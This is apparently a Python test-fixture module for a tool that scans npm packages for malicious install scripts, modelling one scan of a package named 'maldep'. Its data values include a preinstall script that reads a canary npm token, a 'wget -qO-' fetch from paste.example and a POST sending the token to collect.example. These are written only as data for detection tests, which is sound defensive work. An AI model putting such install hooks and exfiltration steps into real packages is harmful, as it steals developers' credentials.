"""Values for the tests of findings, policy and reports: one scan of a package that steals a token."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from typing import Any

from package_hunter import findings as judging
from package_hunter.findings import RoundFacts
from package_hunter.findings.context import Blamer
from package_hunter.findings.group import ExplainRule
from package_hunter.model.finding import Evidence, Finding
from package_hunter.model.observation import (
    Alert,
    Blame,
    Canary,
    CanaryHit,
    CanaryRead,
    Connection,
    DnsRecord,
    FileChange,
    NetworkLog,
    Observation,
    Process,
    Request,
)
from package_hunter.model.report import Canaries, Report
from package_hunter.model.scan import (
    Coverage,
    Decision,
    Package,
    PhaseCoverage,
    ScanStatus,
    Target,
    Verdict,
)

T0 = 1_795_426_867_000_000_000
SECOND = 1_000_000_000

BLAME = Blame(
    phase="install",
    package="pkg:npm/maldep@1.0.0",
    path=("demo-app", "maldep"),
    script="preinstall",
    pid=312,
    cmdline="node steal.js",
    basis="npm started the script in the package's folder.",
    confidence="certain",
)
PROJECT = replace(BLAME, package=None, path=("demo-app",), script="postinstall", cmdline="sh -c ./setup.sh")

CANARY = Canary("npm-token", "npm token", "/home/dev/.npmrc", "npm_secretvalue", ("registry-auth",))


def judge(
    observation: Observation,
    network: NetworkLog,
    canaries: Sequence[Canary] = (),
    *,
    blamer: Blamer | None = None,
    explain_rule: ExplainRule | None = None,
    **facts: Any,
) -> tuple[Finding, ...]:
    """Findings; ``facts`` are of findings.RoundFacts."""
    return judging.judge(observation, network, RoundFacts(canaries, **facts), blamer, explain_rule)


def alert(**changes: Any) -> Alert:
    """An alert of the built-in rules: an unexpected connection of wget."""
    fields = {
        "evt.time": T0 + SECOND,
        "proc.name": "wget",
        "proc.cmdline": "wget -qO- https://paste.example/raw/x",
        "proc.pname": "sh",
        "fd.name": "10.88.0.2:41000->198.18.1.7:443",
        "fd.rip": "198.18.1.7",
        "fd.rport": 443,
    }
    value = Alert(
        time_ns=T0 + SECOND,
        rule="Unexpected outbound connection destination",
        priority="Notice",
        output="09:41:08.000000000: Notice Unexpected outbound connection (command=wget)",
        output_fields=fields,
        tags=("kind:outbound_connection", "suspicious", "T1071.001"),
        source="syscall",
        event_num=77,
        event_type="connect",
        pid=313,
        tid=313,
        blame=BLAME,
    )
    return replace(value, **changes)


PROCESSES = (
    Process(
        1,
        None,
        300,
        2,
        "npm",
        "/usr/bin/node",
        "npm install",
        "/home/dev/projects/demo-app",
        101000,
        T0,
        None,
        0,
    ),
    Process(
        2,
        1,
        312,
        9,
        "node",
        "/usr/bin/node",
        "node steal.js",
        "/home/dev/projects/demo-app",
        101000,
        T0 + 1,
        None,
        0,
    ),
    Process(
        3,
        2,
        313,
        10,
        "wget",
        "/usr/bin/wget",
        "wget -qO- https://paste.example/raw/x",
        "/home/dev/projects/demo-app",
        101000,
        T0 + SECOND,
        T0 + 2 * SECOND,
        0,
        ("sh -c wget -qO- https://paste.example/raw/x",),
    ),
)

HIT = CanaryHit(
    T0 + 2 * SECOND, "npm-token", ("base64", "json"), "http-body", "collect.example:443", 41002, False, BLAME
)

NETWORK = NetworkLog(
    dns=(DnsRecord(T0 + SECOND, "paste.example", "A", "198.18.1.7", 40000, BLAME),),
    connections=(
        Connection(
            T0 + SECOND,
            "tcp",
            "198.18.1.7",
            443,
            41000,
            "paste.example",
            "paste.example",
            512,
            2048,
            "http",
            BLAME,
        ),
    ),
    requests=(
        Request(
            T0 + SECOND,
            "GET",
            "https://paste.example/raw/x",
            (("User-Agent", "Wget/1.21"),),
            b"",
            0,
            200,
            41000,
            False,
            BLAME,
        ),
        Request(
            T0 + 2 * SECOND,
            "POST",
            "https://collect.example/in",
            (("Content-Type", "application/octet-stream"),),
            b"\xff\x00raw",
            5,
            200,
            41002,
            False,
            BLAME,
        ),
    ),
    hits=(HIT,),
)

READ = CanaryRead(T0 + SECOND, "npm-token", "/home/dev/.npmrc", 2, BLAME)

OBSERVATION = Observation(
    alerts=(alert(),),
    processes=PROCESSES,
    files=(
        FileChange("/home/dev/.bashrc", "written", 2, T0 + 3 * SECOND),
        FileChange("/home/dev/projects/demo-app/node_modules/maldep/steal.js", "deleted", 2, T0 + 4 * SECOND),
    ),
    canary_reads=(READ,),
    events=4321,
)

COVERAGE = Coverage(
    events=4321,
    phases=(
        PhaseCoverage("fetch", "default", "ok", 0, 1.5),
        PhaseCoverage("install", "default", "ok", 0, 2.25),
        PhaseCoverage("import", "default", "skipped", None, 0.0),
    ),
    packages_expected=2,
    packages_installed=2,
    scripts_expected=1,
    scripts_run=1,
)

PACKAGE = Package(
    "pkg:npm/maldep@1.0.0",
    "maldep",
    "1.0.0",
    "/home/dev/projects/demo-app/node_modules/maldep",
    "sha512-AAAA",
    ("demo-app", "maldep"),
    direct=True,
    scripts={"preinstall": "node steal.js"},
)

FINDING = Finding(
    fingerprint="0123456789abcdef0123456789abcdef",
    kind="exfiltration",
    severity="critical",
    title="The npm token of /home/dev/.npmrc was sent to collect.example:443",
    blame=BLAME,
    evidence=(Evidence(T0 + 2 * SECOND, "The token left in a request's body.", {"channel": "http-body"}),),
    attack=("T1041", "T1552.001"),
    count=2,
    proof=True,
    explain=("The value is unique to this scan.",),
    advice=("Revoke the npm tokens of everybody who installed this version.",),
)


def report(**changes: Any) -> Report:
    """A report of a scan that found theft."""
    value = Report(
        id="633414e2-24f2-412a-811f-c37131ff2c61",
        target=Target("demo-app", "npm", None, "ab" * 32),
        started=T0,
        finished=T0 + 6 * SECOND,
        status=ScanStatus.FINISHED,
        verdict=Verdict.MALICIOUS,
        decision=Decision.BLOCK,
        coverage=COVERAGE,
        packages=(PACKAGE,),
        alerts=OBSERVATION.alerts,
        findings=(FINDING,),
        network=NETWORK,
        canaries=Canaries((CANARY,), (READ,), (HIT,), (".npmrc",)),
        processes=OBSERVATION.processes,
        files=OBSERVATION.files,
        explanation=("A secret was stolen.",),
        hostname="hunter-host",
    )
    return replace(value, **changes)
